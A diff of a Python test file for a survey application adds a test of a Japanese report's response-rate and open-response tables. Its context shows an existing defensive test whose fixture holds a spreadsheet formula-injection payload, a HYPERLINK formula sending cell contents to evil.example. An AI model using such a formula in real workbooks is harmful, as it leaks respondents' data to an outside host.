@@ -366,6 +366,23 @@ def test_open_responses_are_shown_beside_the_figures_as_the_notice_says(session,
     assert f"{living.title}</th><td class=\"num\">0.0</td>" in section  # all twelve disagreed
 
 
+def test_a_report_of_a_survey_whose_letters_were_made_here_renders(session, surveyed, secret):
+    """Letters recorded (a response rate by stratum to print), open responses beside: the page failed
+    with 'open' is undefined — a note placed in the rate table's block by mistake."""
+    from survey_app.invitations import create_invitations
+
+    create_invitations(session, surveyed, secret, [{"district": 1 + i % 3} for i in range(600)],
+                       stratify_by=("district",), stratum_sizes={"1": 32300, "2": 45500, "3": 23200})
+    responses.bulk_complete(session, surveyed, [FOREIGN] * 3, channel="web")  # open, too few: withheld
+    report = build_report(session, surveyed, "rake", "ja")
+    assert report.rates and report.indicators.open.n_respondents == 3
+    page = html.unescape(render(report, "html").decode("utf-8"))
+    rates = page.split("層別の回収率")[1].split("</table>")[0]
+    assert "大麻地区" in rates and "非表示" not in rates
+    section = page.split("公開回答（案内状のコードなし）</h3>")[1]
+    assert "– : " in section.split("</table>")[1][:200]  # the dash explained below the open table
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
